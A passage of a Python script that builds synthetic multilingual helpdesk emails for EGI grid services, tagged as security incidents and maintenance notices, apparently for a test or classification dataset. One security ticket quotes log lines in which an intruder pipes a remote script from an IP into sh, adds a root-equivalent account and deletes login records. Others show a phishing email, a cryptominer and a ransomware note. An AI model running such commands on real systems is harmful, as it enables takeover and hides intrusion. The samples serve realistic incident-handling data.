vanochtend was de JupyterHub van onze VO (vo.notebooks.egi.eu) voor de vierde keer in twee weken een uur lang onbruikbaar. Het patroon is elke keer hetzelfde: na een update van de image-lijst loopt de hub vol en moet iemand hem handmatig herstarten.

Een herstart lost het even op, maar we willen graag dat iemand uitzoekt wat de onderliggende oorzaak is, zodat dit niet blijft terugkomen. Kunnen jullie hier een probleemdossier voor openen en ons op de hoogte houden van de analyse?

Met vriendelijke groet,
Lotte Mulder
Universiteit Utrecht
""", fmt="alt", style="outlook", tags="problem-like-incident")

# ---------------------------------------------------------------------------
# SECURITY (10)
# ---------------------------------------------------------------------------

M("en", "security", "-", "support", "Ivan Kovač <ivan.kovac@srce.hr>",
  "VM gpu-worker-3 at 100% CPU - strange process", "2025-01-27 09:14:58 +0100", """
Hi,

one of our VMs at SRCE-FedCloud (gpu-worker-3, 198.51.100.71) has been at 100% on all 16 cores since Saturday night, although nothing of ours was scheduled. ps shows a process called "kswapd0" running from /tmp/.X25-unix/.rsync/c/ as the user "ubuntu", and netstat shows a permanent connection to 203.0.113.45:3333 (looks like a mining pool port). There is also a key in ~/.ssh/authorized_keys that none of us added, and a crontab entry that downloads the binary again every hour.

We haven't touched anything yet, in case you want to look at it as it is. The VM had password login enabled for a test last week - that was probably a mistake.

What should we do next?

Ivan
""", tags="compromise-no-word")

M("en", "security", "-", "support", "Daniel Okafor <d.okafor@imperial.ac.uk>",
  "ui02 - odd entries in the logs", "2025-01-29 15:40:11 +0000", """
Hello,

while checking disk usage on ui02.hep.ph.ic.ac.uk I noticed these entries in the journal (journalctl _COMM=sudo):

Jan 29 03:14:22 ui02 sudo: gridusr07 : TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c curl -s http://203.0.113.9/x.sh | sh
Jan 29 03:14:25 ui02 sudo: gridusr07 : TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=/usr/sbin/useradd -o -u 0 -g 0 -M sysd
Jan 29 03:15:02 ui02 sudo: gridusr07 : TTY=pts/3 ; PWD=/root ; USER=root ; COMMAND=/bin/rm -f /var/log/wtmp

gridusr07 is a pool account and should not be able to use sudo at all. It's not in /etc/sudoers, but there is a file /etc/sudoers.d/99-local dated Jan 28 that none of us created. The session on pts/3 came from 203.0.113.77.

I have not rebooted or changed anything. Who should I talk to?

Daniel
""", vague=True, tags="compromise-no-word")

M("en", "security", "-", "support", "Julia Brandt <julia.brandt@mpi-hd.mpg.de>",
  "Fwd: Your EGI Check-in account will be suspended", "2025-02-03 09:47:26 +0100", """
Hi,

I and at least two colleagues received the mail below this morning. The link goes to a page that looks exactly like the Check-in login, but the domain is egi-checkin-verify.com. One colleague entered her password before noticing - she has changed it now.

Looks like phishing to me - thought you should know.

Julia

---------- Forwarded message ---------
From: EGI Check-in <no-reply@egi-checkin-verify.com>
Date: Mon, 3 Feb 2025 at 07:58
Subject: Your EGI Check-in account will be suspended
To: <julia.brandt@mpi-hd.mpg.de>

Dear user,

Due to a scheduled upgrade of the EGI identity platform, all accounts must be re-verified within 24 hours. Accounts that are not verified will be suspended and access to all EGI services will be lost.

Verify your account now: https://egi-checkin-verify.com/auth/verify?id=8831702

EGI Check-in Team
""", fmt="alt", style="gmail", fwd=True, tags="phishing")

M("en", "security", "-", "support", "Samir Haddad <samir.haddad@proton.me>",
  "Responsible disclosure: unauthenticated API on dashboard-test.fedcloud.egi.eu", "2025-02-05 21:13:40 +0100", """
Hello,

I'm an independent researcher. While looking at publicly reachable services I found that https://dashboard-test.fedcloud.egi.eu:8443/api/v1/projects answers without any authentication and returns the full list of projects, including fields that look like OpenStack application credential IDs and secrets.

Steps to reproduce:
  curl -s https://dashboard-test.fedcloud.egi.eu:8443/api/v1/projects | jq '.[0]'

I have not used any of the credentials and I have not tried anything beyond the request above. I'd suggest taking the endpoint offline and rotating the credentials. I follow a 90-day disclosure policy and will not publish anything before 6 May 2025; I'm happy to coordinate.

Regards,
Samir Haddad
""", tags="disclosure")

M("en", "security", "-", "notifications", "Pakiti <pakiti@pakiti.egi.eu>",
  "[Pakiti] IFCA-LCG2: 4 hosts with EGI-Critical vulnerabilities", "2024-07-08 06:00:12 +0000", """
Pakiti report for site IFCA-LCG2 (NGI_IBERGRID)
Generated: 2024-07-08 06:00 UTC

The following hosts reported package versions affected by vulnerabilities tagged
EGI-Critical:

CVE-2024-6387 (openssh, EGI-Critical)
  wn-a0123.ifca.es   openssh-server-8.7p1-38.el9    reported 2024-07-08 04:12
  wn-a0124.ifca.es   openssh-server-8.7p1-38.el9    reported 2024-07-08 04:13
  ui01.ifca.es       openssh-server-8.7p1-38.el9    reported 2024-07-08 04:20
  argus.ifca.es      openssh-server-8.7p1-34.el9    reported 2024-07-08 04:31

Sites must patch or mitigate EGI-Critical vulnerabilities within 7 days. Please
acknowledge and report the status of the affected hosts to the EGI CSIRT duty contact.

https://pakiti.egi.eu/hosts.php?site=IFCA-LCG2&tag=EGI-Critical
""", auto=True, style="web")

M("de", "security", "-", "support", "Stefan Richter <stefan.richter@uni-goettingen.de>",
  "Laptop gestohlen", "2025-01-30 07:58:03 +0100", """
Hallo,

mir wurde gestern Abend im Zug Göttingen–Hannover der Dienstlaptop gestohlen. Darauf waren:

- mein Grid-Zertifikat (usercert.pem/userkey.pem; der Schlüssel ist mit einer Passphrase geschützt, die aber leider im Passwortmanager ohne Masterpasswort gespeichert ist)
- eine rclone-Konfiguration mit den Zugangsdaten zu unserem S3-Bucket bei der Cloud-Site in Bratislava
- ein oidc-agent mit Refresh-Token für EGI Check-in
- SSH-Schlüssel ohne Passphrase für die UIs in Göttingen und bei GridKa

Anzeige bei der Bundespolizei ist erstattet. Was muss ich jetzt tun, damit niemand damit auf unsere Daten und Rechner zugreift? Das Zertifikat sollte wohl widerrufen werden.

Viele Grüße
Stefan Richter
""", charset="utf-8", cte="b64", vague=True, tags="compromise-no-word")

M("fr", "security", "-", "support", "Hélène Girard <helene.girard@lapp.in2p3.fr>",
  "Page d'accueil de notre portail modifiée", "2025-02-06 08:40:27 +0100", """
Bonjour,

ce matin, la page d'accueil de notre portail de VO (https://vo-portal.lapp.in2p3.fr) affiche un fond noir avec le texte « Hacked by Z3r0_Cr3w » et une image qui n'a rien à voir avec nous. Le reste du site semble intact, mais le fichier index.php a été modifié hier à 23h47 et il y a un nouveau fichier wp-content/uploads/2025/01/up.php que personne chez nous n'a déposé.

Le portail tourne sous WordPress 6.2 (pas mis à jour depuis un moment, je l'avoue). Nous avons mis le site en mode maintenance, mais nous n'avons pas éteint la VM. Que devons-nous faire ? Faut-il conserver quelque chose pour une analyse ?

Cordialement,
Hélène Girard
LAPP Annecy
""", fmt="alt", style="thunderbird", tags="compromise-no-word")

M("it", "security", "-", "support", "Alessandro Ricci <alessandro.ricci@unipd.it>",
  "Accessi sospetti al mio account Check-in", "2025-02-07 08:05:44 +0100", """
Buongiorno,

nella pagina del mio profilo EGI Check-in vedo tre accessi di stanotte, tra le 02:10 e le 02:25, da indirizzi IP in Vietnam e in Brasile, fatti con il mio account collegato all'IdP dell'Università di Padova. Io a quell'ora dormivo e non uso VPN.

Subito dopo risulta anche la creazione di un nuovo token di accesso che non ho creato io.

Ho già cambiato la password istituzionale. Per sicurezza potete bloccare o revocare i token del mio account e verificare se è stato usato per accedere ai servizi?

Grazie,
Alessandro Ricci
Università degli Studi di Padova
""", charset="utf-8", cte="8bit")

M("es", "security", "-", "support", "Javier Ruiz <javier.ruiz@ciemat.es>",
  "Ficheros cifrados en el servidor de análisis", "2025-02-10 08:22:19 +0100", """
Hola,

esta mañana nuestros usuarios no podían abrir ningún fichero en /data del servidor de análisis ana01.ciemat.es (CIEMAT-LCG2). Todos los ficheros tienen ahora la extensión .lockbit y en cada directorio hay un fichero README_RESTORE.txt que dice:

  "Your files are encrypted. To recover them contact us at restore@onionmail.org within 72 hours. Do not try to decrypt them yourself."

El servidor monta también el área NFS compartida con los nodos de trabajo. Lo hemos desconectado de la red, pero sigue encendido. ¿Qué hacemos ahora?

Javier Ruiz
CIEMAT
""", fmt="html", style="web", cte="b64", tags="compromise-no-word")

M("pl", "security", "-", "support", "Bartosz Lewandowski <bartosz.lewandowski@pwr.edu.pl>",
  "Klucze S3 w publicznym repozytorium", "2025-02-11 17:26:31 +0100", """
Dzień dobry,

przez pomyłkę wypchnąłem do publicznego repozytorium na GitHubie (github.com/blewandowski/lofar-pipeline) plik konfiguracyjny z kluczem dostępu i sekretem S3 do naszego bucketu w chmurze CYFRONET-CLOUD oraz z tokenem odświeżania EGI Check-in. Plik był publiczny przez ok. 3 godziny, zanim to zauważyłem; usunąłem go, ale nadal jest w historii commitów.

W logach bucketu widzę dwa pobrania z nieznanych adresów IP w tym czasie.

Proszę o unieważnienie tych kluczy i tokenu oraz informację, co jeszcze powinienem zrobić.

Bartosz Lewandowski
Politechnika Wrocławska
""", charset="windows-1250", cte="8bit")

# ---------------------------------------------------------------------------
# MAINTENANCE (7)
# ---------------------------------------------------------------------------

M("en", "maintenance", "-", "notifications", "EGI Operations Portal <noreply@operations-portal.egi.eu>",
  "[EGI DOWNTIME ANNOUNCEMENT] UKI-LT2-QMUL: OUTAGE of se03.esc.qmul.ac.uk on 2025-02-11",
  "2025-01-28 12:00:04 +0000", """
A scheduled downtime has been declared in GOCDB.

Site:            UKI-LT2-QMUL (NGI_UK)
Severity:        OUTAGE
Classification:  SCHEDULED
Start:           2025-02-11 08:00 UTC
End:             2025-02-11 18:00 UTC
Affected:        se03.esc.qmul.ac.uk (webdav, xrootd, SRM)
Description:     StoRM upgrade to 1.11.22 and migration of the namespace to the new Lustre filesystem. VOs should not send data to the SE during the downtime.

GOCDB: https://goc.egi.eu/portal/index.php?Page_Type=Downtime&id=35412

You receive this notification because you subscribed to downtime announcements for NGI_UK in the Operations Portal.
""", auto=True, style="web", tags="maint-upgrade")

M("en", "maintenance", "-", "notifications", "EGI Check-in Operations <checkin-ops@egi.eu>",
  "Scheduled intervention: EGI Check-in AT RISK on 19 February 2025", "2025-02-12 15:30:00 +0100", """
Dear EGI Check-in users and service providers,

On Wednesday 19 February 2025, between 07:00 and 09:00 UTC, EGI Check-in will be AT RISK because the database cluster is being moved to new hardware.

During this window sign-in may be slower, and a small number of logins may fail and need to be retried. Existing sessions and tokens are not affected. No action is needed from service providers.

The intervention is registered in GOCDB: https://goc.egi.eu/portal/index.php?Page_Type=Downtime&id=35477
Status updates: https://status.egi.eu

Best regards,
EGI Check-in Operations team
""", fmt="alt", style="web", extra=[("Precedence", "bulk")])

M("en", "maintenance", "-", "notifications", "EGI Broadcast <noreply@operations-portal.egi.eu>",
  "[EGI BROADCAST] Accounting Portal unavailable on 25 February", "2025-02-13 10:00:02 +0000", """
Broadcast from: EGI Operations
Targets: NGI managers, site administrators, VO managers

The EGI Accounting Portal (accounting.egi.eu) will be unavailable on Tuesday 25 February 2025 from 09:00 to 13:00 UTC for the upgrade to version 4.2 and the migration to a new database server.

Accounting records published by sites via APEL during this time are queued by the message broker and processed afterwards; no data will be lost. Sites do not need to take any action.

For questions please contact the EGI Operations team.
""", auto=True, fmt="html", style="web", tags="maint-upgrade")

M("en", "maintenance", "-", "support", "Aleksandra Jovanović <aleksandra.jovanovic@ipb.ac.rs>",
  "FYI", "2025-02-07 12:11:38 +0100", """
Hi all,

just a heads-up: the data centre of the Institute of Physics Belgrade will be without power on 20-21 February (work on the main transformer). All AEGIS01-IPB-SCL services - CE, SE, site-BDII and the cloud - will be down from 20 Feb 06:00 until 21 Feb 20:00 CET.

The downtime is in GOCDB, and we've sent a note to the VOs we support. Jobs still queued on the evening of the 19th will be drained.

Best,
Aleksandra
""", vague=True)

M("de", "maintenance", "-", "notifications", "GridKa Operations <gridka-ops@lists.kit.edu>",
  "[GridKa] Wartungsankündigung: Tape-System am 04.03.2025", "2025-02-18 14:02:41 +0100", """
Sehr geehrte Nutzerinnen und Nutzer,

am Dienstag, 04.03.2025, von 08:00 bis 16:00 Uhr (MEZ) führen wir am Tape-System von GridKa (FZK-LCG2) ein Firmware-Upgrade der Bandlaufwerke und der Bibliothekssteuerung durch.

Betroffen:
- tape.gridka.de (Recall und Migration für alle VOs)
- Stage-Requests über dCache werden während dieses Zeitraums gepuffert und anschließend abgearbeitet.

Nicht betroffen sind Disk-Speicher, CEs und Worker-Nodes.

Die Downtime ist in GOCDB als WARNING (at risk) eingetragen.

Mit freundlichen Grüßen
Ihr GridKa-Team
""", charset="iso-8859-1", cte="8bit", tags="maint-upgrade",
  extra=[("List-Id", "GridKa announcements <gridka-ops.lists.kit.edu>"), ("Precedence", "list")])

M("cs", "maintenance", "-", "notifications", "MetaCentrum <meta@cesnet.cz>",
  "Plánovaná odstávka cloudu MetaCentra 12. 3. 2025", "2025-02-20 09:30:00 +0100", """
Vážení uživatelé,

ve středu 12. března 2025 od 8:00 do 18:00 proběhne plánovaná odstávka cloudového prostředí MetaCentra (site CESNET-MCC). Důvodem je upgrade OpenStacku na verzi 2024.2 (Dalmatian) a výměna síťových prvků.

Během odstávky:
- nebude možné spouštět ani spravovat virtuální stroje,
- běžící virtuální stroje budou vypnuty a po skončení odstávky znovu spuštěny,
- data na svazcích zůstanou zachována.

Odstávka je zaznamenána v GOCDB. Děkujeme za pochopení.

Uživatelská podpora MetaCentra
""", fmt="alt", style="web", tags="maint-upgrade", extra=[("Precedence", "bulk")])

M("pt", "maintenance", "-", "support", "Rui Fernandes <rui.fernandes@incd.pt>",
  "Paragem programada do INCD - 6 de março", "2025-02-14 11:45:20 +0000", """
Caros colegas,

informamos que no dia 6 de março de 2025, entre as 08h00 e as 20h00 (hora de Lisboa), todos os serviços do site NCG-INGRID-PT estarão indisponíveis devido a uma intervenção programada no sistema de arrefecimento do centro de dados.

A paragem já foi registada no GOCDB. Os trabalhos em fila serão drenados a partir das 20h00 do dia anterior.

Pedimos que divulguem esta informação junto dos utilizadores das VOs suportadas pelo nosso site.

Cumprimentos,
Rui Fernandes
INCD - Infraestrutura Nacional de Computação Distribuída
""", fmt="alt", style="thunderbird")


if __name__ == "__main__":
    main()
